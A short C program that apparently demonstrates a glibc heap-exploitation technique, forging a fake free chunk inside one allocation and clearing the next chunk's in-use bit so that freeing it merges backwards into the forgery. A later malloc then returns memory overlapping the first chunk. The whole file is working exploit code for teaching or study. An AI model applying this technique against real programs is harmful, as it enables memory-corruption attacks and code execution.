// topic: merging backwards with a chunk that was forged
#include <stdio.h>
#include <stdlib.h>

int main(void)
{
    setvbuf(stdout, NULL, _IONBF, 0);
    size_t *a = malloc(0x88), *b = malloc(0x500), *c = malloc(0x18);
    a[0] = 0;
    a[1] = 0x81;
    a[2] = (size_t)a;
    a[3] = (size_t)a;
    a[16] = 0x80;
    b[-1] &= ~1UL;
    free(b);
    printf("%lx\n", a[1]);
    size_t *d = malloc(0x580);
    printf("%d\n", d == a + 2);
}
